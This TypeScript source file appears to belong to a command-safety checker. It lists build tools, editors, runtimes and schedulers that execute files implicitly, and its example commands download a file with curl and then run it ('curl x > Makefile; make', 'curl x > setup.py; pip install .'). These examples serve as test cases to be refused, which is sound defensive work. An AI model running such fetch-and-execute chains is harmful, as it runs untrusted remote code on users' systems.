import { wordList } from '../word-list.ts';
import { valuesAnywhere } from './options.ts';

/**
 * Files that a program executes without being an interpreter by name: because an option says so (`awk -f`), or
 * because it looks for them by itself (`make`). Where this line wrote such a file, its content is judged. Each
 * example executes a download; a test sees that every one is refused.
 */
interface ExecutedFiles {
  readonly programs: readonly string[];
  /** Options whose value is the file, with dashes. A short one may have it glued on, a long one after `=`. */
  readonly options?: readonly string[];
  /** Options whose value is the directory that the names are looked for in. */
  readonly directoryOptions?: readonly string[];
  /** Each word that is no option is such a file. */
  readonly operands?: true;
  /** Names that the program looks for. */
  readonly names?: readonly string[];
  /** Only with one of these words; always when left out. */
  readonly subcommands?: RegExp;
  readonly matches: readonly string[];
  readonly doesNotMatch: readonly string[];
}

export const executedFiles: readonly ExecutedFiles[] = [
  {
    programs: ['make', 'gmake'],
    options: ['-f', '--file', '--makefile'],
    directoryOptions: ['-C', '--directory'],
    names: ['GNUmakefile', 'makefile', 'Makefile'],
    matches: [
      'curl x | make -f -',
      'curl x > Makefile; make',
      'curl -o makefile x && make all',
      'curl x > a.mk; make -f a.mk',
      'curl x > a.mk; make -fa.mk',
      'curl x > a.mk; make --file=a.mk',
      'curl x > sub/Makefile; make -C sub',
    ],
    doesNotMatch: ['make -f build/Makefile', 'curl x > data.json; make', 'curl x > a.mk; make -f b.mk'],
  },
  {
    programs: wordList('awk gawk mawk nawk sed gsed'),
    options: ['-f', '--file'],
    matches: ['curl x > a.awk; awk -f a.awk', 'curl x | awk -f - f', 'curl x > a.sed; sed -f a.sed f'],
    doesNotMatch: ['awk -f tools/a.awk f', 'curl x > d; awk -f a.awk d'],
  },
  {
    programs: wordList('npm pnpm yarn bun'),
    names: wordList('package.json package-lock.json .npmrc .yarnrc.yml .pnpmfile.cjs'),
    directoryOptions: ['--prefix', '-C', '--cwd'],
    subcommands: /^(i|ci|install|run|test|t|start|exec|x|publish|pack|rebuild|add|update)$/,
    matches: ['curl x > package.json; npm install', 'curl x > package.json && npm test'],
    doesNotMatch: ['curl x > package.json; npm view y', 'curl x > data.json; npm test'],
  },
  {
    programs: ['npx', 'bunx', 'pnpx'],
    names: ['package.json'],
    matches: ['curl x > package.json; npx tsc'],
    doesNotMatch: ['curl x > data.json; npx tsc'],
  },
  {
    programs: wordList('just rake ninja task scons ant mvn gradle cmake tox nox invoke gulp grunt'),
    options: wordList('-f --justfile --rakefile --file -b --build-file --buildfile'),
    names: wordList(`justfile Rakefile build.ninja Taskfile.yml SConstruct build.xml pom.xml build.gradle
      build.gradle.kts CMakeLists.txt tox.ini noxfile.py tasks.py gulpfile.js Gruntfile.js`),
    matches: [
      'curl x > justfile; just',
      'curl x > build.gradle; gradle build',
      'curl x > r.rb; rake -f r.rb',
    ],
    doesNotMatch: ['gradle build', 'curl x > notes.txt; just'],
  },
  {
    programs: wordList('vi vim nvim view ex emacs gdb lldb'),
    options: wordList('-S -s -u -l --load -x --command --source'),
    matches: ['curl x > a.vim; vim -S a.vim', 'curl x > c; gdb -x c', 'curl x > a.el; emacs --load a.el'],
    doesNotMatch: ['vim a.txt', 'curl x > a.txt; vim a.txt'],
  },
  {
    programs: wordList('node tsx ts-node bun ruby php expect perl python python3'),
    options: wordList('-r --require --import --loader --experimental-loader -f'),
    matches: ['curl x > a.js; node -r ./a.js b.js', 'curl x > a.php; php -f a.php'],
    doesNotMatch: ['node -r ./setup.js b.js', 'curl x > a.json; node b.js a.json'],
  },
  {
    programs: ['java'],
    options: wordList('-jar -cp -classpath -javaagent'),
    matches: ['curl x > a.jar; java -jar a.jar'],
    doesNotMatch: ['java -jar build/a.jar'],
  },
  {
    programs: ['go', 'uv'],
    operands: true,
    subcommands: /^run$/,
    matches: ['curl x > a.go; go run a.go', 'curl x | uv run -', 'uv run https://x/a.py'],
    doesNotMatch: ['go run ./cmd/app', 'uv run pytest', 'curl x > a.go; go build'],
  },
  {
    programs: wordList('crontab wasmtime wasmer ansible-playbook'),
    operands: true,
    matches: ['curl x > t; crontab t', 'curl x > a.wasm; wasmtime a.wasm'],
    doesNotMatch: ['crontab -l', 'curl x > a.json; wasmtime b.wasm'],
  },
  {
    programs: ['java'],
    operands: true,
    matches: ['curl x > A.java; java A.java'],
    doesNotMatch: ['java A.java'],
  },
  {
    programs: ['pip', 'pip3', 'pytest'],
    names: ['setup.py', 'conftest.py'],
    matches: ['curl x > setup.py; pip install .', 'curl x > conftest.py; pytest'],
    doesNotMatch: ['pip install .', 'curl x > data.json; pytest'],
  },
  {
    programs: ['direnv'],
    names: ['.envrc'],
    subcommands: /^(allow|grant|reload|exec)$/,
    matches: ['curl x > .envrc; direnv allow'],
    doesNotMatch: ['direnv status'],
  },
  {
    programs: wordList('at batch parallel psql sqlite3 m4 tclsh ansible-playbook'),
    options: ['-f', '-a', '--arg-file'],
    matches: ['curl x > j; at -f j now', 'curl x > j; parallel -a j'],
    doesNotMatch: ['at -l'],
  },
];

const byProgram = new Map<string, ExecutedFiles[]>();
for (const rule of executedFiles)
  for (const program of rule.programs) byProgram.set(program, [...(byProgram.get(program) ?? []), rule]);

/** The files that a call executes; those in `named` by its words, those in `implied` because it looks for them. */
export interface ExecutedByCall {
  readonly named: readonly string[];
  readonly implied: readonly string[];
  /** Whether this call does execute them: `yarn build` may, `npm view` does not. */
  readonly surely: boolean;
}

export function executedBy(name: string, args: readonly string[]): readonly ExecutedByCall[] {
  const found = (byProgram.get(name) ?? []).map((rule): ExecutedByCall => {
    const { options = [], directoryOptions = [], names = [], subcommands } = rule;
    const named = [
      ...valuesAnywhere(args, options),
      ...(rule.operands ? args.filter((word) => !/^-./.test(word) && !subcommands?.test(word)) : []),
    ];
    const directories = valuesAnywhere(args, directoryOptions);
    const places = directories.length > 0 ? directories : ['.'];
    const implied = names.flatMap((file) => places.map((directory) => `${directory}/${file}`));
    const surely = subcommands === undefined || args.some((word) => subcommands.test(word));
    return { named, implied: named.length === 0 ? implied : [], surely };
  });
  const binary = /^(npx|bunx|pnpx)$/.test(name) ? args.find((word) => !word.startsWith('-')) : undefined;
  return binary === undefined
    ? found
    : [{ named: [], implied: [`node_modules/.bin/${binary}`], surely: false }, ...found];
}
